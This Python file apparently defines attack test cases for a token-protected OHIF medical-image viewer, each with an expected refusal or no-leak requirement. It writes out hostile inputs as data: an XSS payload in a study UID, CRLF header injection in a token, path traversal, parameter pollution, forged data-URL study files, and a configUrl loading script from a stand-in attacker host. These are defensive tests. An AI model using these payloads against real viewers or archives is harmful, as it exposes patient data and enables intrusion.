"""Attacks with links: an ambiguous link is refused, and no link can bring its own studies or configuration."""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import quote

from attacks import weakenings as weak
from attacks.forged_studies import NAME, data_url, dicom_json
from attacks.hostile_archive import Behaviour, answering
from attacks.model import PageAttack, Weakening
from attacks.requirements import (
    all_of,
    archive_gets_nothing,
    archive_gets_only_the_study,
    attacker_gets_nothing,
    result_is,
    says,
    shows_nothing_of,
    site_gets_no,
    token_in_no,
)
from attacks.rows.page_attacks import Address, link, script
from attacks.visit import Visit

REFUSED = all_of(says("bad-link", "long-uid"), archive_gets_nothing)
BAD_TOKEN = all_of(says("bad-token"), archive_gets_nothing)
JSON_ROUTE = "/dicom-web/studies/{id}/ohif-dicom-json"
WITH_JSON = {"dicom_json": JSON_ROUTE}


def refused(
    name: str,
    why: str,
    query: Address,
    weakening: Weakening,
    *,
    recipe: dict[str, str] | None = None,
    fragment: Address = lambda v: "",
) -> PageAttack:
    """A link that the viewer must refuse; ``query`` comes before the token."""

    def address(visit: Visit) -> str:
        return f"{visit.origin}/viewer?{query(visit)}&token={visit.token}{fragment(visit)}"

    return link(name, why, address, REFUSED, weakening, recipe=recipe)


def tokens(name: str, why: str, parameters: str, weakening: Weakening = weak.ANY_TOKEN) -> PageAttack:
    """A link whose token the viewer must not use."""
    return link(
        name,
        why,
        lambda v: v.link(f"&{parameters}" if parameters[0] != "#" else parameters, token=""),
        BAD_TOKEN,
        weakening,
    )


UNREADABLE = (
    refused("two-urls", "one is checked, the other opened", lambda v: f"url={v.root}/studies/a/ohif-dicom-json&url={data_url(dicom_json(v.own))}", weak.TWO_URLS, recipe=WITH_JSON),
    refused("two-urls-in-two-spellings", "the name is read with and without regard to letter case", lambda v: f"URL={v.root}/studies/a/ohif-dicom-json&url={data_url(dicom_json(v.own))}", weak.TWO_URLS, recipe=WITH_JSON),
    refused("url-in-query-and-fragment", "one is in the query, the other in the fragment", lambda v: f"url={data_url(dicom_json(v.own))}", weak.TWO_URLS, recipe=WITH_JSON, fragment=lambda v: f"#Url={v.root}/studies/a/ohif-dicom-json"),
    refused("encoded-name-of-url", "an encoded name", lambda v: f"%75rl={data_url(dicom_json(v.own))}&url={v.root}/studies/a/ohif-dicom-json", weak.TWO_URLS, recipe=WITH_JSON),
    refused("url-beside-studies", "the studies are checked, the file opened", lambda v: f"StudyInstanceUIDs={v.own}&url={v.root}/studies/a/ohif-dicom-json", weak.URL_BESIDE_STUDIES, recipe=WITH_JSON),
    refused("no-uid", "text instead of a UID", lambda v: "StudyInstanceUIDs=..%2F..%2Fsystem", weak.ANY_UID),
    refused("one-bad-uid", "a valid UID and an invalid one", lambda v: f"StudyInstanceUIDs={v.own},*", weak.ANY_UID),
    refused("long-uid", "a UID of 65 characters", lambda v: f"StudyInstanceUIDs=1.{'2' * 63}", weak.ANY_UID),
    refused("uid-with-markup", "markup instead of a UID", lambda v: "StudyInstanceUIDs=" + quote("<img src=x onerror=alert(1)>"), weak.ANY_UID),
    refused("uid-in-other-digits", "digits of another alphabet", lambda v: "StudyInstanceUIDs=" + quote("١.٢.٣"), weak.ANY_UID),
    refused("broken-uid", "an invalid encoding", lambda v: "StudyInstanceUIDs=%ED%A0%80", weak.ANY_UID),
    refused("null-in-uid", "a control character", lambda v: f"StudyInstanceUIDs={v.own}%00", weak.ANY_UID),
    refused("201-studies", "more than a link may name", lambda v: "StudyInstanceUIDs=" + ",".join(f"1.{n}" for n in range(201)), weak.MANY_STUDIES),
    refused("2000-studies", "far more than a link may name", lambda v: "StudyInstanceUIDs=" + ",".join(f"1.{n}" for n in range(2000)), weak.MANY_STUDIES),
    refused("100-kB", "a link that is longer than servers accept", lambda v: f"StudyInstanceUIDs={v.own}", weak.ANY_LENGTH, fragment=lambda v: "#x=" + "y" * 100_000),
    link(
        "user-name",
        "the page cannot replace an address with a user name: the script fails before it installs its guards",
        lambda v: v.link().replace("://", "://user@"),
        all_of(archive_gets_nothing, token_in_no("url", "history", "history_state", "html")),
        weak.NO_HANDOVER,
    ),
    link(
        "password",
        "the same with a password",
        lambda v: v.link().replace("://", "://user:secret@"),
        all_of(archive_gets_nothing, token_in_no("url", "history", "history_state", "html")),
        weak.NO_HANDOVER,
    ),
)  # fmt: skip

TOKENS = (
    tokens("two-tokens", "proxy and archive use different ones", "token=one1&token=two2", weak.FIRST_TOKEN),
    tokens("token-in-query-and-fragment", "the same, in two places", "token=one1#token=two2", weak.FIRST_TOKEN),
    tokens(
        "two-spellings-of-a-token",
        "names are read without regard to letter case",
        "token=one1&TOKEN=two2",
        weak.FIRST_TOKEN,
    ),
    tokens("encoded-name-of-a-token", "an encoded name", "token=one1&%74oken=two2", weak.FIRST_TOKEN),
    tokens("line-breaks", "a token that becomes another header", "token=a%0D%0AX-Injected:%20yes"),
    tokens("null-in-token", "a token that some servers end early", "token=abc%00def"),
    tokens("space-in-token", "a token with its own scheme", "token=Bearer%20abc"),
    tokens("other-letters-in-token", "letters that a header cannot contain", "token=%E2%82%ACuro"),
    tokens("long-token", "a token that is longer than servers accept", "#token=" + "x" * 8193),
)


def opens(
    name: str,
    why: str,
    query: Address,
    *,
    archive: Callable[[Visit], Behaviour] | None = None,
    recipe: dict[str, str] | None = None,
    weakening: Weakening = weak.STOCK_JSON,
    unwanted: str = "/other/",
) -> PageAttack:
    """A link to a JSON file that describes studies: the file's author decides what the viewer shows and requests."""

    def address(visit: Visit) -> str:
        return f"{visit.origin}/viewer?{query(visit)}&token={visit.token}"

    requirement = all_of(
        shows_nothing_of(NAME), archive_gets_only_the_study, attacker_gets_nothing, site_gets_no(unwanted)
    )

    def succeeded(visit: Visit) -> bool:
        requested = [r for r in visit.archive() if "ohif-dicom-json" not in r.target] or visit.attacked()
        opened = any(r.target.startswith(unwanted) for r in visit.requests())
        return bool(requested) or opened or NAME in visit.page.inner_text("body")

    return link(
        name, why, address, requirement, weakening, page="viewer", archive=archive, recipe=recipe, until=succeeded
    )


def _file(visit: Visit) -> str:
    """A file that makes the viewer request another study."""
    return dicom_json(visit.other, f"dicomweb:{visit.root}/studies/{visit.other}/series/1.2/instances/1.2.3/frames/1")


def _encoded(path: Callable[[Visit], str]) -> Address:
    return lambda visit: f"url={quote(path(visit), safe='')}"


FILES = (
    opens("json-in-the-link", "the file is in the link itself", lambda v: f"url={data_url(_file(v))}"),
    opens("json-in-the-link-allowed", "the same if links may name files", lambda v: f"url={data_url(_file(v))}", recipe=WITH_JSON, weakening=weak.ANY_JSON),
    opens("json-behind-another-name", "one name is checked, the other opened", lambda v: f"URL={v.root}/x.json&url={data_url(_file(v))}"),
    opens("json-elsewhere", "a file of the same origin outside the roots", lambda v: "url=/other/evil.json"),
    opens("json-of-the-attacker", "a file of another server", _encoded(lambda v: f"{v.evil}/x.json"), weakening=weak.STOCK_JSON),
    opens("json-is-a-video", "any bytes under the root may describe studies", _encoded(lambda v: f"{v.root}/studies/{v.own}/rendered"), archive=lambda v: answering(_file(v), "video/mp4", part="rendered")),
    opens(
        "json-of-another-type", "uploaded bytes, at exactly the permitted route", _encoded(lambda v: f"{v.root}/studies/{v.own}/ohif-dicom-json"),
        archive=lambda v: answering(_file(v), "text/plain", part="ohif-dicom-json"), recipe=WITH_JSON, weakening=weak.ANY_JSON,
    ),
    opens("json-is-a-search", "a search by patient, named as a file", _encoded(lambda v: f"{v.root}/studies?PatientID={v.patient}")),
    opens("json-is-the-archive", "a search over the archive", _encoded(lambda v: f"{v.root}/studies")),
    opens("json-is-all-instances", "a search over all instances", _encoded(lambda v: f"{v.root}/instances")),
    opens("json-is-another-study", "another study's metadata", _encoded(lambda v: f"{v.root}/studies/{v.other}/metadata")),
    opens(
        "json-with-a-query", "the route with a query", _encoded(lambda v: f"{v.root}/studies/{v.own}/ohif-dicom-json?x=1"),
        archive=lambda v: answering(_file(v), "application/json", part="ohif-dicom-json"), recipe=WITH_JSON, weakening=weak.ANY_JSON,
    ),
    opens(
        "json-route-climbed", "the route, with '..' in its path", _encoded(lambda v: f"{v.root}/studies/..%2f{v.own}/ohif-dicom-json"),
        archive=lambda v: answering(_file(v), "application/json", part="ohif-dicom-json"), recipe=WITH_JSON, weakening=weak.ANY_JSON,
    ),
    opens(
        "json-names-elsewhere", "a file at the route that names images outside the roots", _encoded(lambda v: f"{v.root}/studies/{v.own}/ohif-dicom-json"),
        archive=lambda v: answering(dicom_json(v.own, "wadouri:/other/picture"), "application/json", part="ohif-dicom-json"), recipe=WITH_JSON, weakening=weak.ANY_JSON,
    ),
    opens(
        "json-names-a-search", "a file at the route that names a search as an image", _encoded(lambda v: f"{v.root}/studies/{v.own}/ohif-dicom-json"),
        archive=lambda v: answering(dicom_json(v.own, f"wadouri:{v.root}/studies?PatientID=*"), "application/json", part="ohif-dicom-json"), recipe=WITH_JSON, weakening=weak.ANY_JSON,
    ),
    opens(
        "json-names-the-attacker", "a file at the route that names the attacker's images", _encoded(lambda v: f"{v.root}/studies/{v.own}/ohif-dicom-json"),
        archive=lambda v: answering(dicom_json(v.own, f"wadouri:{v.evil}/picture"), "application/json", part="ohif-dicom-json"), recipe=WITH_JSON, weakening=weak.ANY_JSON_AND_PLACE,
    ),
)  # fmt: skip

PARAMETERS = (
    link(
        "configuration-of-the-attacker",
        "a parameter makes OHIF load its configuration from another server",
        lambda v: v.link(f"&configUrl={quote(v.evil + '/x.js', safe='')}"),
        all_of(attacker_gets_nothing, archive_gets_only_the_study),
        weak.STOCK,
        page="viewer",
        until=lambda v: bool(v.attacked()) or v.draws(),
    ),
    link(
        "list-of-all-studies",
        "the study list with a search from the link",
        lambda v: f"{v.origin}/?mrn={v.patient}&token={v.token}",
        all_of(archive_gets_nothing, says("no-token", "not-found", "bad-link")),
        weak.STOCK,
        page="viewer",
        until=lambda v: bool(v.archive()),
    ),
    link(
        "other-data-source",
        "OHIF has a route for each mode with each data source",
        lambda v: f"{v.origin}/viewer/dicomjson?url={data_url(_file(v))}&token={v.token}",
        all_of(shows_nothing_of(NAME), archive_gets_only_the_study),
        weak.STOCK,
        page="viewer",
    ),
)


def _pushed(js: str) -> str:
    return js + "; await new Promise(done => setTimeout(done, 200));"


def _pasted(visit: Visit) -> None:
    visit.open()
    visit.run("location.hash = `#token=${token}`")
    visit.until(lambda: visit.token not in visit.page.url, 2.0)
    visit.started()


def next_link_without_a_token(visit: Visit) -> str:
    visit.open()
    return visit.link(studies=visit.other, token="")


def no_study(visit: Visit) -> str:
    visit.open()
    return visit.origin + "/"


def next_link_after_an_unread_handover(visit: Visit) -> str:
    visit.open(visit.origin + "/robots.txt")
    visit.run("sessionStorage.setItem('ohifbuild:/:handover', JSON.stringify({ key: own, token, problem: '' }))")
    return visit.link(studies=visit.other, token="")


TAB = (
    script(
        "next-link-inherits",
        "the next link in the tab has no token",
        "const r = await fetch(`${root}/studies/${other}/series`).catch(() => 'nothing'); return r === 'nothing'",
        all_of(archive_gets_nothing, result_is(True)),
        weak.ONE_FOR_ALL,
        link=next_link_without_a_token,
    ),
    script(
        "link-without-a-study",
        "a page that names no study, in a tab that has a token",
        "const r = await fetch(`${root}/studies/${own}/series`).catch(() => 'nothing'); return r === 'nothing'",
        all_of(archive_gets_nothing, result_is(True)),
        weak.LIST_IS_OPEN,
        link=no_study,
    ),
    script(
        "handed-over-and-left",
        "a token that was handed over and never read, and then another link",
        "const r = await fetch(`${root}/studies/${other}/series`).catch(() => 'nothing'); return r === 'nothing'",
        all_of(archive_gets_nothing, result_is(True)),
        weak.LEFT_OVER,
        link=next_link_after_an_unread_handover,
    ),
    script(
        "address-pushed",
        "code in the page goes to another study without a page load",
        _pushed("history.pushState({}, '', `/viewer?StudyInstanceUIDs=${other}`)")
        + "await fetch(`${root}/studies/${own}/series`).catch(() => {})",
        archive_gets_nothing,
        weak.UNAWARE,
    ),
    script(
        "address-navigated",
        "the same with the Navigation API, which calls no method of history",
        "await navigation.navigate(`#StudyInstanceUIDs=${other}`).committed; await fetch(`${root}/studies/${own}/series`).catch(() => {})",
        archive_gets_nothing,
        weak.UNAWARE,
    ),
    PageAttack(
        "token-pasted-into-the-fragment",
        "a link pasted over this one, without a page load",
        _pasted,
        all_of(token_in_no("url", "history"), archive_gets_nothing),
        weak.UNAWARE,
    ),
)

ROWS = (*UNREADABLE, *TOKENS, *FILES, *PARAMETERS, *TAB)
